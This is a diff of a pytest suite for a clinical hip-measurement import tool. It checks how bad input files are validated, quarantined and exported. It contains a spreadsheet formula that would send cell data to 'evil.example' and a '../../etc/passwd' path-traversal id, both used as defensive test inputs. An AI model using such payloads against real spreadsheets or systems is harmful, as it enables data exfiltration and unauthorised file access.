@@ -1,12 +1,16 @@
 """Every bad-input file in tests/data/bad, tried through the command line as a clinic would.
 
-For each file: `validate` reports what it should, a strict `import` either imports everything or
-nothing, and a `--quarantine` import keeps the row accounting: rows read = imported + quarantined
-+ duplicates.
+For each file: `validate` reports what it should (row, column, value, rule, fix), a strict `import`
+either imports everything or nothing, and a `--quarantine` import keeps the row accounting:
+rows read = imported + quarantined + duplicates + skipped. Every stored value equals the cell as
+written or the normalisation the report lists for that cell. Then one test per finding that
+needs more than that table.
 """
 
 from __future__ import annotations
 
+import re
+import shutil
 from pathlib import Path
 
 import pandas as pd
@@ -14,42 +18,92 @@ import pytest
 from click.testing import CliRunner
 
 from hipanalytics.cli import main
+from hipanalytics.records import table_spec
 from hipanalytics.store import Store
 
 BAD = Path(__file__).parent / "data" / "bad"
 PATIENTS = Path(__file__).parent / "data" / "patients.csv"
 
-# file: (extra args, validate exit code, texts validate prints, (imported, quarantined, duplicates)
+# file: (extra args, validate exit code, texts validate prints, (imported, quarantined, duplicates, skipped)
 #        or None when the file cannot be read as a table and is refused whole even with --quarantine)
 CASES = {
-    "missing_column.csv": ([], 1, ["row      1  degrees: '': missing required column 'degrees'"], None),
+    "missing_column.csv": ([], 1, ["row      1  degrees: missing required column 'degrees'"], None),
     "wrong_types.csv": ([], 1, ["row      2  degrees: 'abc': not a number of degrees",
-                                "row      3  trial: 'two': not a whole number"], (1, 2, 0)),
-    "degrees_with_units.csv": ([], 0, ["3 values normalised", "unit text removed; the value is in degrees"], (3, 0, 0)),
-    "comma_decimals.csv": ([], 0, ["decimal comma read as a decimal point"], (2, 0, 0)),
+                                "row      3  trial: 'two': not a whole number"], (1, 2, 0, 0)),
+    "degrees_with_units.csv": ([], 0, ["3 values normalised", "unit text removed; the value is in degrees"], (3, 0, 0, 0)),
+    "comma_decimals.csv": ([], 0, ["decimal comma read as a decimal point"], (2, 0, 0, 0)),
     "impossible_angles.csv": ([], 1, ["row      2  degrees: '-45': hip IR outside -20..90 degrees is not plausible",
                                       "row      3  degrees: '120': hip IR outside -20..90",
                                       "warning   row      4  degrees: '65': hip IR outside the usual 0..60",
-                                      "warning   row      5  degrees: '-5': hip IR outside the usual 0..60"], (2, 2, 0)),
+                                      "warning   row      5  degrees: '-5': hip IR outside the usual 0..60"], (2, 2, 0, 0)),
     "position_typos.csv": ([], 1, ["row      2  position: '90/9': unknown position '90/9'",
                                    "row      3  position: 'seated 9O': unknown position",
                                    "row      4  position: 'supine': unknown position 'supine'; fix: say which supine test"],
-                           (1, 3, 0)),
-    "sides_many_ways.csv": ([], 0, ["5 values normalised", "5  side spelling standardised"], (6, 0, 0)),
+                           (1, 3, 0, 0)),
+    "sides_many_ways.csv": ([], 0, ["5 values normalised", "5  side spelling standardised"], (6, 0, 0, 0)),
     "dates_three_formats.csv": ([], 1, ["row      5  measured_on: '03/04/2026': ambiguous date",
-                                        "other rows of this file are day-first (e.g. '25/03/2026')"], (3, 1, 0)),
-    "future_date.csv": ([], 1, ["measured_on: '2099-01-05': date in the future"], (0, 1, 0)),
+                                        "other rows of this file are day-first (e.g. '25/03/2026')"], (3, 1, 0, 0)),
+    "future_date.csv": ([], 1, ["measured_on: '2099-01-05': date in the future"], (0, 1, 0, 0)),
     "empty.csv": ([], 1, ["the file is empty"], None),
-    "header_only.csv": ([], 0, ["0 rows read", "the file has a header but no data rows"], (0, 0, 0)),
-    "latin1.csv": ([], 0, ["the file is not UTF-8; read it as cp1252"], (1, 0, 0)),
-    "semicolon.csv": ([], 0, ["columns are separated by semicolons", "decimal comma read as a decimal point"], (2, 0, 0)),
+    "header_only.csv": ([], 1, ["0 rows read", "the file has a header but no data rows: nothing to import"], None),
+    "latin1.csv": ([], 0, ["the file is not UTF-8; read it as cp1252"], (1, 0, 0, 0)),
+    "semicolon.csv": ([], 0, ["columns are separated by semicolons", "decimal comma read as a decimal point"],
+                      (2, 0, 0, 0)),
     "second_sheet.xlsx": ([], 1, ["the first sheet 'Read me' is empty", "pass --sheet 'ROM'"], None),
-    "conflicting_ids.csv": ([], 1, ["the same id on rows with different content: rows 2, 3"], (1, 2, 0)),
-    "duplicate_rows.csv": ([], 0, ["duplicate row      3  -: 'same as row 2': duplicate of an earlier row"], (2, 0, 1)),
+    "conflicting_ids.csv": ([], 1, ["the same id on rows with different content: rows 2, 3"], (1, 2, 0, 0)),
+    "duplicate_rows.csv": ([], 0, ["duplicate row      3  -: 'same as row 2': duplicate of an earlier row"],
+                           (2, 0, 1, 0)),
     "unknown_patient_and_before_birth.csv": ([], 1, ["patient_id: 'P404': unknown patient",
                                                      "measured_on: '1970-01-05': date before the patient's birth year"],
-                                             (1, 2, 0)),
+                                             (1, 2, 0, 0)),
+    # 1. ragged rows, binary files, junk
+    "ragged_row.csv": ([], 1, ["error     row      3  -: 'P001,2026-01-05,right,hip,internal_rotation,seated_90,",
+                               "12 fields, but the header has 11"], (3, 1, 0, 0)),
+    "workbook_named_csv.csv": ([], 1, ["this is not a text table: it looks like a ZIP archive, such as an Excel "
+                                       "workbook (.xlsx); fix: if it is an Excel workbook, name it .xlsx"], None),
+    "binary_noise.csv": ([], 1, ["this is not a text table: it looks like binary data, not text"], None),
+    "random_text.csv": ([], 1, ["the first row does not name any column of the measurements table"], None),
+    # 2. a column given twice
+    "duplicate_header.csv": ([], 1, ["row      1  degrees: 'degrees': column 'degrees' appears 2 times: "
+                                     "I (column 9) and K (column 11)", "their values may differ"], None),
+    # 3. UTF-16
+    "excel_unicode_text.txt": ([], 0, ["the file is UTF-16-LE text (byte-order mark)", "columns are separated by tabs"],
+                               (2, 0, 0, 0)),
+    "utf16_without_bom.csv": ([], 1, ["the file looks like UTF-16-LE text without a byte-order mark; fix: if it is, "
+                                      "give --encoding utf-16-le"], None),
+    # 4. control characters and over-long text
+    "control_and_long_text.csv": ([], 1, ["row      3  notes: 'bad\\x00byte': control character(s) U+0000 in the text",
+                                          "(2,500 characters): 2,500 characters; notes holds at most 2,000"],
+                                  (1, 2, 0, 0)),
+    # 5. formulas (imported as written; exports neutralise them, tested below)
+    "formula_cells.csv": ([], 0, ["0 errors"], (3, 0, 0, 0)),
+    # 6. blank rows and a total row
+    "total_and_blank_rows.csv": ([], 0, ["4 rows skipped", "skipped   row      3  -: blank row",
+                                         "skipped   row      7  -: 'Total 89': summary row (a total, not a record)",
+                                         "row      8  -: 'Mean 29.7': summary row"], (3, 0, 0, 4)),
+    "total_and_blank_rows.xlsx": ([], 0, ["3 rows skipped", "skipped   row      6  -: blank row",
+                                          "row      7  -: 'Total 89': summary row"], (3, 0, 0, 3)),
+    # 7. the same measurement twice and no trial numbers
+    "duplicate_rows_no_trial.csv": ([], 0, ["duplicate row      4  -: 'same as row 2': suspected duplicate: rows 2 "
+                                            "and 4 hold the same values at the same visit and no trial number",
+                                            "--repeated-trials"], (2, 0, 1, 0)),
+    # 8. dates
+    "iso_datetimes.csv": ([], 0, ["4 values normalised", "date-time read as its date"], (4, 0, 0, 0)),
+    "day_first_impossible.csv": (["--dates", "day-first"], 1,
+                                 ["row      3  measured_on: '12/31/2025': impossible with --dates day-first: 31 is not "
+                                  "a month"], (1, 1, 0, 0)),
+    "mixed_date_orders.csv": ([], 1, ["the file mixes day-first dates (row 2 ('25/03/2026')) and month-first dates "
+                                      "(row 3 ('03/25/2026'))"], None),
+    # 9. a file whose set-aside rows come back (see the round-trip test)
+    "quarantine_round_trip.csv": ([], 1, ["row      3  patient_id: 'P003': unknown patient",
+                                          "row      4  degrees: '3O': not a number of degrees"], (1, 2, 0, 0)),
+    # 10. messages
+    "empty_cells.csv": ([], 1, ["row      2  degrees: (empty): empty cell in a required column",
+                                "row      3  side: (empty): empty cell in a required column"], (0, 2, 0, 0)),
+    "many_extra_columns.csv": ([], 0, ["warning   row      1  -: ", "1,990 columns are not part of the measurements "
+                                       "table: 'extra_0', 'extra_1'", "and 1,980 more"], (1, 0, 0, 0)),
 }
+TABLE = {"patient_ids.csv": "patients", "iso_datetimes_sessions.csv": "sessions"}
 
 
 def run(*args: str):
@@ -63,8 +117,41 @@ def store_path(tmp_path) -> Path:
     return path
 
 
-def test_every_bad_file_has_a_case():
-    assert sorted(p.name for p in BAD.iterdir()) == sorted(CASES)
+def test_every_bad_file_has_a_test():
+    tested = set(CASES) | set(TABLE)
+    assert sorted(p.name for p in BAD.iterdir()) == sorted(tested)
+
+
+def _text(value, kind: str) -> str:
+    """A stored value as the report writes it (what a normalisation's 'normalised' shows)."""
+    if pd.isna(value):
+        return ""
+    if kind == "date":
+        return pd.Timestamp(value).strftime("%Y-%m-%d")
+    if kind == "float":
+        return f"{value:g}"
+    return str(value)
+
+
+def assert_stored_as_written_or_reported(store: Store, table: str, report_csv: Path, raw: pd.DataFrame) -> None:
+    """Every stored cell equals its input cell (``raw``: row -> column -> text) or the normalisation listed
+    for that cell in the import's --report file."""
+    report = pd.read_csv(report_csv, dtype=str, keep_default_na=False)
+    changed = {(int(r.row), r.column): r.normalised for r in report.itertuples()
+               if r.kind == "normalised" and r.row and r.column}
+    kinds = {c.name: c.kind for c in table_spec(table)}
+    stored = store.read(table, history=True)
+    for record in stored.to_dict("records"):
+        row = int(record["source_row"])
+        for column, text in raw[row].items():
+            if column not in kinds or (kinds[column] == "id" and column.endswith(("measurement_id", "session_id"))):
+                continue
+            written = _text(record[column], kinds[column])
+            expected = changed.get((row, column), text.strip())
+            if kinds[column] in ("float", "int", "year") and expected and written:
+                assert float(written) == float(expected.replace(",", ".")), (row, column, text, written)
+            else:
+                assert written == expected, (row, column, text, written)
 
 
 @pytest.mark.parametrize("name", list(CASES))
@@ -75,6 +162,7 @@ def test_bad_file_through_the_cli(name, store_path, tmp_path):
     assert checked.exit_code == validate_code, checked.output
     for text in texts:
         assert text in checked.output, checked.output
+    assert "Traceback" not in checked.output and "nan" not in re.findall(r"'(\w+)'", checked.output)
 
     store = Store(store_path)
     before = len(store.read("measurements", history=True))
@@ -87,52 +175,193 @@ def test_bad_file_through_the_cli(name, store_path, tmp_path):
 
     fresh = tmp_path / "fresh.sqlite"
     run("import", PATIENTS, "--table", "patients", "--store", fresh)
+    report = tmp_path / "report.csv"
     partial = run("import", path, "--table", "measurements", "--store", fresh, "--quarantine",
-                  "--quarantine-dir", tmp_path / "q", *args)
-    assert partial.exit_code in (0, 1, 3), partial.output
+                  "--quarantine-dir", tmp_path / "q", "--report", report, *args)
     summary = Store(fresh).imports()
     rows = summary[summary["table_name"] == "measurements"]
     if counts is None:
         assert partial.exit_code == 1 and rows.empty and Store(fresh).read("measurements").empty
+        assert "the file was refused as a whole (see above); nothing was imported" in partial.output
+        assert "--quarantine)" not in partial.output  # quarantine cannot help a file that is not a table
         return
-    imported, quarantined, duplicates = counts
+    assert partial.exit_code == (3 if counts[1] else 0), partial.output
+    imported, quarantined, duplicates, skipped = counts
     got = rows.iloc[0]
-    assert (got["imported"], got["quarantined"], got["duplicates"]) == (imported, quarantined, duplicates)
-    assert got["rows_read"] == got["imported"] + got["quarantined"] + got["duplicates"]
+    assert (got["imported"], got["quarantined"], got["duplicates"], got["skipped"]) == counts
+    assert got["rows_read"] == imported + quarantined + duplicates + skipped
+    assert f"{imported} imported, {quarantined} quarantined, {duplicates} duplicates, {skipped} skipped" in partial.output
     assert len(Store(fresh).read("measurements")) == imported
+    from hipanalytics.records import read_records
+
+    raw = read_records(path, "measurements", dates=args[1] if args[:1] == ["--dates"] else None).raw
+    cells = {int(r["source_row"]): {k: v for k, v in r.items() if k != "source_row"} for r in raw.to_dict("records")}
+    assert_stored_as_written_or_reported(Store(fresh), "measurements", report, cells)
 
 
-def test_the_second_sheet_imports_when_named(store_path):
-    result = run("import", BAD / "second_sheet.xlsx", "--table", "measurements", "--sheet", "ROM", "--store", store_path)
-    assert result.exit_code == 0 and "2 imported" in result.output
+# -- 1. ragged rows ---------------------------------------------------------------------------
 
 
-def test_ambiguous_dates_import_once_the_order_is_declared(store_path):
-    result = run("import", BAD / "dates_three_formats.csv", "--table", "measurements", "--dates", "day-first",
-                 "--store", store_path)
+def test_a_ragged_row_is_set_aside_whole_and_the_others_imported(store_path, tmp_path):
+    result = run("import", BAD / "ragged_row.csv", "--table", "measurements", "--store", store_path, "--quarantine",
+                 "--quarantine-dir", tmp_path)
+    assert result.exit_code == 3
+    (quarantine,) = tmp_path.glob("ragged_row-measurements-quarantine-*.csv")
+    problems = pd.read_csv(quarantine)["problems"].iloc[0]
+    assert "12 fields, but the header has 11" in problems
+    assert "felt tight, then better" in problems  # nothing of the row is lost, not even the part past the header
+    stored = Store(store_path).read("measurements")
+    assert len(stored) == 3 and stored["notes"].dropna().tolist() == ["ok"]
+
+
+def test_a_large_junk_file_is_refused_in_one_line_without_a_traceback(store_path):
+    result = run("import", BAD / "random_text.csv", "--table", "measurements", "--store", store_path, "--quarantine")
+    errors = [line for line in result.output.splitlines() if line.strip().startswith("error")]
+    assert result.exit_code == 1 and len(errors) == 2  # the reason, and "nothing was imported"
+    assert "0 values normalised" in result.output and "normalised (" not in result.output
+
+
+# -- 3. encodings ----------------------------------------------------------------------------
+
+
+def test_utf16_is_read_and_utf16_without_a_mark_needs_the_encoding_option(store_path, tmp_path):
+    excel = tmp_path / "excel.sqlite"
+    run("import", PATIENTS, "--table", "patients", "--store", excel)
+    result = run("import", BAD / "excel_unicode_text.txt", "--table", "measurements", "--store", excel)
+    assert result.exit_code == 0, result.output
+    stored = Store(excel).read("measurements").sort_values("patient_id")
+    assert stored["degrees"].tolist() == [30.0, 27.5] and stored["side"].tolist() == ["right", "left"]
+    refused = run("import", BAD / "utf16_without_bom.csv", "--table", "measurements", "--store", store_path)
+    assert refused.exit_code == 1 and "--encoding utf-16-le" in refused.output and "\x00" not in refused.output
+    declared = run("import", BAD / "utf16_without_bom.csv", "--table", "measurements", "--store", store_path,
+                   "--encoding", "utf-16-le")
+    assert declared.exit_code == 0 and "2 imported" in declared.output, declared.output
+    wrong = run("validate", BAD / "latin1.csv", "--table", "measurements", "--encoding", "utf-8")
+    assert wrong.exit_code == 1 and "cannot be read as utf-8: byte 0xeb" in wrong.output
+
+
+# -- 4. text limits ---------------------------------------------------------------------------
+
+
+def test_a_million_character_note_is_refused_with_its_length_and_not_printed(store_path, tmp_path):
+    header = (BAD / "sides_many_ways.csv").read_text().splitlines()[0] + ",notes"
+    path = tmp_path / "long.csv"
+    path.write_text(f"{header}\nP001,2026-01-05,left,hip,IR,seated_90,active,inclinometer,30,1,{'n' * 1_000_000}\n")
+    result = run("import", path, "--table", "measurements", "--store", store_path)
+    assert result.exit_code == 1 and "(1,000,000 characters): 1,000,000 characters; notes holds at most 2,000" in result.output
+    assert len(result.output) < 3000
+
+
+# -- 5. formulas in exports -------------------------------------------------------------------
+
+
+def test_exports_neutralise_formulas_and_leave_numbers_and_the_store_alone(store_path, tmp_path):
+    assert run("import", BAD / "formula_cells.csv", "--table", "measurements", "--store", store_path).exit_code == 0
+    stored = Store(store_path).read("measurements").sort_values("trial")
+    assert stored["notes"].tolist() == ['=HYPERLINK("http://evil.example/?x="&A2,"click")', "+1 after warm-up", "-2 pain"]
+    assert run("export", "measurements", "--out", tmp_path / "m.csv", "--store", store_path).exit_code == 0
+    exported = pd.read_csv(tmp_path / "m.csv").sort_values("trial")
+    assert exported["notes"].tolist() == ["'=HYPERLINK(\"http://evil.example/?x=\"&A2,\"click\")", "'+1 after warm-up",
+                                          "'-2 pain"]
+    assert exported["assessor"].tolist() == ["AB", "'@AB", "AB"] and exported["degrees"].tolist() == [30.0, -5.0, 31.0]
+    assert run("export", "measurements", "--out", tmp_path / "m.xlsx", "--store", store_path).exit_code == 0
+    sheet = pd.read_excel(tmp_path / "m.xlsx").sort_values("trial")
+    assert sheet["notes"].iloc[0].startswith("'=") and sheet["degrees"].tolist() == [30.0, -5.0, 31.0]
+    again = tmp_path / "again.sqlite"  # an export imports back to the same values
+    run("import", PATIENTS, "--table", "patients", "--store", again)
+    back = run("import", tmp_path / "m.csv", "--table", "measurements", "--store", again)
+    assert back.exit_code == 0 and "spreadsheet-safety quote removed" in back.output, back.output
+    assert Store(again).read("measurements").sort_values("trial")["notes"].tolist() == stored["notes"].tolist()
+
+
+# -- 7. repeated trials ------------------------------------------------------------------------
+
+
+def test_repeated_trials_are_kept_when_the_user_says_so(store_path):
+    result = run("import", BAD / "duplicate_rows_no_trial.csv", "--table", "measurements", "--store", store_path,
+                 "--repeated-trials")
+    assert result.exit_code == 0 and "3 imported" in result.output
+    assert sorted(Store(store_path).read("measurements")["trial"]) == [1, 2, 3]
+
+
+# -- 8. dates ----------------------------------------------------------------------------------
+
+
+def test_iso_date_times_are_read_as_their_date_and_a_session_keeps_its_time(store_path):
+    result = run("import", BAD / "iso_datetimes.csv", "--table", "measurements", "--store", store_path)
     assert result.exit_code == 0 and "4 imported" in result.output
-    dates = sorted(Store(store_path).read("measurements")["measured_on"].dt.strftime("%Y-%m-%d"))
-    assert dates == ["2026-01-05", "2026-01-05", "2026-03-25", "2026-04-03"]
+    assert set(Store(store_path).read("measurements")["measured_on"].dt.strftime("%Y-%m-%d")) == {"2026-03-04"}
+    sessions = run("import", BAD / "iso_datetimes_sessions.csv", "--table", "sessions", "--store", store_path)
+    assert sessions.exit_code == 0 and "time taken from the date-time in performed_on" in sessions.output
+    stored = Store(store_path).read("sessions").sort_values("performed_at")
+    assert stored["performed_at"].tolist() == ["08:15", "18:00"]
 
 
-def test_the_same_file_twice_adds_nothing(store_path):
-    first = run("import", BAD / "sides_many_ways.csv", "--table", "measurements", "--store", store_path)
-    again = run("import", BAD / "sides_many_ways.csv", "--table", "measurements", "--store", store_path)
-    assert "6 imported" in first.output and "already imported" in again.output
-    assert len(Store(store_path).read("measurements")) == 6
+# -- 9. the quarantine round trip ---------------------------------------------------------------
 
 
-def test_100000_rows_with_one_bad_row_at_the_end(store_path, tmp_path):
+def test_quarantined_rows_come_back_after_a_fix_by_reimport_or_from_the_quarantine_file(store_path, tmp_path):
+    source = tmp_path / "measurements.csv"
+    shutil.copy(BAD / "quarantine_round_trip.csv", source)
+    first = run("import", source, "--store", store_path, "--quarantine")
+    assert first.exit_code == 3 and "1 imported, 2 quarantined" in first.output
+    new_patient = tmp_path / "patients-more.csv"
+    new_patient.write_text("patient_id,birth_year,involved_side\nP003,1980,left\n")
+    assert run("import", new_patient, "--table", "patients", "--store", store_path).exit_code == 0
+    again = run("import", source, "--store", store_path, "--quarantine")  # the same file: its set-aside rows retried
+    assert again.exit_code == 3 and "3 rows read, 1 imported, 1 quarantined, 1 duplicates" in again.output
+    assert "those rows were tried again" in again.output
+    quarantine = max(tmp_path.glob("measurements-measurements-quarantine-*.csv"))
+    table = pd.read_csv(quarantine, dtype=str)
+    assert table["source_row"].tolist() == ["4"] and table["degrees"].tolist() == ["3O"]
+    table.loc[0, "degrees"] = "30"  # the clinician fixes the cell
+    table.to_csv(quarantine, index=False)
+    fixed = run("import", quarantine, "--table", "measurements", "--store", store_path)
+    assert fixed.exit_code == 0 and "1 imported" in fixed.output, fixed.output
+    assert "its rows came from" in fixed.output and str(source) in fixed.output
+    with Store(store_path) as store:
+        stored = store.read("measurements", history=True).sort_values("source_row")
+        assert stored[["patient_id", "degrees", "source_row"]].values.tolist() == [
+            ["P001", 30.0, 2], ["P003", 29.0, 3], ["P001", 30.0, 4]]  # row numbers of the original file
+        assert store.imports()["origin"].iloc[-1] == str(source)
+    unchanged = run("import", source, "--store", store_path, "--quarantine")  # the source still has the typo
+    assert unchanged.exit_code == 3 and "3 rows read, 0 imported, 1 quarantined, 2 duplicates" in unchanged.output
+
+
+# -- 10. messages ------------------------------------------------------------------------------
+
+
+def test_many_problems_point_to_the_report_which_lists_every_change(store_path, tmp_path):
     header = (BAD / "sides_many_ways.csv").read_text().splitlines()[0]
-    day = [str(d.date()) for d in pd.date_range("2024-01-01", periods=900)]
-    positions = ("seated_90", "prone", "supine_90")
-    rows = [f"P001,{day[i // 120]},{('left', 'right')[i // 20 % 2]},hip,internal_rotation,{positions[i // 40 % 3]},"
-            f"active,inclinometer,30,{1 + i % 20}" for i in range(99_999)]
-    rows.append("P001,2026-10-01,right,hip,internal_rotation,seated_90,active,inclinometer,3O,1")
-    path = tmp_path / "big.csv"
+    rows = [f"P001,2026-01-{1 + i % 28:02d},Lt,hip,IR,seated_90,active,inclinometer,x{i},{1 + i // 28}" for i in range(60)]
+    path = tmp_path / "many.csv"
     path.write_text(header + "\n" + "\n".join(rows) + "\n")
-    checked = run("validate", path, "--table", "measurements", "--store", store_path)
-    assert checked.exit_code == 1 and "row 100001  degrees: '3O': not a number of degrees" in checked.output
-    partial = run("import", path, "--table", "measurements", "--store", store_path, "--quarantine",
-                  "--quarantine-dir", tmp_path / "q")
-    assert partial.exit_code == 3 and "99999 imported, 1 quarantined, 0 duplicates" in partial.output
+    result = run("validate", path, "--table", "measurements", "--report", tmp_path / "all.csv")
+    assert "... and 10 more: write them all with --report FILE" in result.output
+    full = pd.read_csv(tmp_path / "all.csv")
+    assert (full["kind"] == "error").sum() == 60 and (full["kind"] == "normalised").sum() == 120  # side and motion
+
+
+# -- 11 and 12. ids ----------------------------------------------------------------------------
+
+
+def test_unsafe_patient_ids_are_refused_with_the_rule_and_alike_ids_get_their_own_files(tmp_path):
+    store_path = tmp_path / "ids.sqlite"
+    result = run("import", BAD / "patient_ids.csv", "--table", "patients", "--store", store_path, "--quarantine",
+                 "--quarantine-dir", tmp_path)
+    assert result.exit_code == 3 and "2 imported, 3 quarantined" in result.output
+    checked = run("validate", BAD / "patient_ids.csv", "--table", "patients")
+    for bad in ("'../../etc/passwd'", "'P 001'", "'A..B'"):
+        assert f"patient_id: {bad}: not a valid id: ids use letters A-Z a-z, digits 0-9 and . _ - / only" in checked.output
+    assert sorted(Store(store_path).read("patients")["patient_id"]) == ["Q/1", "Q_1"]
+    from hipanalytics.reports import render_patient
+
+    with Store(store_path) as store:
+        for pid in ("Q/1", "Q_1"):
+            store.add_records("measurements", [{"patient_id": pid, "measured_on": "2026-01-05", "side": "left",
+                                                "motion": "IR", "position": "seated_90", "mode": "active",
+                                                "instrument": "inclinometer", "degrees": 30}])
+    first = render_patient(store_path, "Q/1", tmp_path / "reports")["html"]
+    second = render_patient(store_path, "Q_1", tmp_path / "reports")["html"]
+    assert first != second and first.exists() and second.exists()
+    assert second.name == "progress-Q_1.html" and first.name.startswith("progress-Q_1-")
